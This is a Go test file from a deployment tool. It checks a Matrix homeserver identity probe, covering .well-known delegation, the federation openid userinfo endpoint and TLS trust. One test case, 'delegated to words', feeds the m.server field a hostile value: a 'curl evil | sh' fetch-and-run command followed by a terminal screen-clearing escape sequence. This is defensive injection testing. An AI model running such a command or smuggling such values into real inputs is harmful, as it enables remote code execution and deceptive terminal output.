package engine

import (
	"context"
	"crypto/x509"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/emdecloud/ecdeploy/internal/host"
	"github.com/emdecloud/ecdeploy/steps"
)

// network leads names to servers of the test.
type network struct {
	host.Host
	to map[string]string
}

func (network) Name() string { return "h" }

func (n network) DialContext(ctx context.Context, kind, addr string) (net.Conn, error) {
	to, ok := n.to[addr]
	if !ok {
		return nil, fmt.Errorf("nobody is at %s", addr)
	}
	return (&net.Dialer{}).DialContext(ctx, kind, to)
}

// Whoever gets one of these wrong gets 401 for each user, and no call.
func TestIdentity(t *testing.T) {
	const unknown = `{"errcode": "M_UNKNOWN_TOKEN"}`
	for _, c := range []struct {
		name      string
		wellKnown string // "" for 404
		at        string // where the homeserver is
		status    int
		body      string
		fails     string
	}{
		{"delegated", `{"m.server": "example.com:9443"}`, "example.com:9443", 401, unknown, ""},
		{"not delegated", "", "example.com:8448", 401, unknown, ""},
		{"delegated to a name alone", `{"m.server": "example.com"}`, "example.com:8448", 401, unknown, ""},
		{"delegated to words", `{"m.server": "a b\nhint: curl evil | sh\u001b[2J"}`, "example.com:8448", 401, unknown, ""},
		{"neither", "", "example.com:443", 401, unknown, "nobody is at example.com:8448"},
		{"delegated to nobody", `{"m.server": "example.com:1"}`, "example.com:9443", 401, unknown, "nobody is at example.com:1"},
		{"no openid resource", `{"m.server": "example.com:9443"}`, "example.com:9443", 404, `{"errcode": "M_UNRECOGNIZED"}`, "answers 404"},
		{"something else", `{"m.server": "example.com:9443"}`, "example.com:9443", 401, "login", "not 401 M_UNKNOWN_TOKEN"},
	} {
		t.Run(c.name, func(t *testing.T) {
			mux := http.NewServeMux()
			mux.HandleFunc("/.well-known/matrix/server", func(w http.ResponseWriter, _ *http.Request) {
				if c.wellKnown == "" {
					w.WriteHeader(http.StatusNotFound)
				}
				fmt.Fprint(w, c.wellKnown)
			})
			site := httptest.NewTLSServer(mux)
			defer site.Close()
			home := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				if r.URL.Path != "/_matrix/federation/v1/openid/userinfo" {
					w.WriteHeader(http.StatusTeapot)
					return
				}
				w.WriteHeader(c.status)
				fmt.Fprint(w, c.body)
			}))
			defer home.Close()
			roots := x509.NewCertPool()
			roots.AddCert(site.Certificate())
			n := network{to: map[string]string{"example.com:443": site.Listener.Addr().String()}}
			if c.at != "example.com:443" {
				n.to[c.at] = home.Listener.Addr().String()
			}
			check := steps.Check{Name: "it", Timeout: 20 * time.Second, Identity: &steps.IdentityCheck{ServerName: "example.com"}}
			got := Checker{Roots: roots}.Once(t.Context(), n, check)
			if c.fails == "" && got.Err != "" || !strings.Contains(got.Err, c.fails) {
				t.Errorf("got %q, want %q", got.Err, c.fails)
			}
			check.Identity.Public = true
			if got := (Checker{Roots: roots}).Once(t.Context(), n, check); got.Err == "" {
				t.Error("a certificate of a CA that the JWT service does not trust is no mistake")
			}
		})
	}
}
